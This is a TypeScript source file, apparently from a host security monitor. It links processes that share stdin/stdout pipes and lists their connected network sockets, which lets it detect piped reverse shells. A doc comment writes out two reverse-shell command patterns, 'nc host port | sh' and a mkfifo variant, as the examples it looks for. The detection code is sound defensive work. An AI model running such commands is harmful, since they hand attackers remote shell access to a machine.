import type { NetSocket } from '../../collectors/net-sockets.js';
import { listDir, readLink } from '../../collectors/read.js';
import type { ProcessInfo } from './process-info.js';
import type { SocketLookup } from './socket-lookup.js';

/**
 * The processes at the other end of a pipe on stdin/stdout (`nc host port | sh`, the mkfifo
 * reverse shell `cat f | sh -i 2>&1 | nc host port > f`), and the network sockets they hold.
 */
export class PipePeers {
  private readonly byPipe = new Map<string, ProcessInfo[]>();

  constructor(
    processes: readonly ProcessInfo[],
    private readonly procDir: string,
    private readonly sockets: SocketLookup,
  ) {
    for (const p of processes) {
      for (const target of new Set(p.stdio)) {
        if (!target?.startsWith('pipe:[')) continue;
        const list = this.byPipe.get(target) ?? [];
        list.push(p);
        this.byPipe.set(target, list);
      }
    }
  }

  /** Other processes with the same pipe on one of their standard fds. */
  peers(p: ProcessInfo, target: string | undefined): ProcessInfo[] {
    if (!target?.startsWith('pipe:[')) return [];
    return (this.byPipe.get(target) ?? []).filter((q) => q.pid !== p.pid);
  }

  /** Connected TCP/UDP sockets among all the fds of a process. */
  connectedSockets(p: ProcessInfo): NetSocket[] {
    const out: NetSocket[] = [];
    const fdDir = `${this.procDir}/${p.pid}/fd`;
    for (const fd of listDir(fdDir)) {
      const s = this.sockets.inetSocket(p.pid, readLink(`${fdDir}/${fd}`));
      if (s && s.remotePort !== 0) out.push(s);
    }
    return out;
  }
}
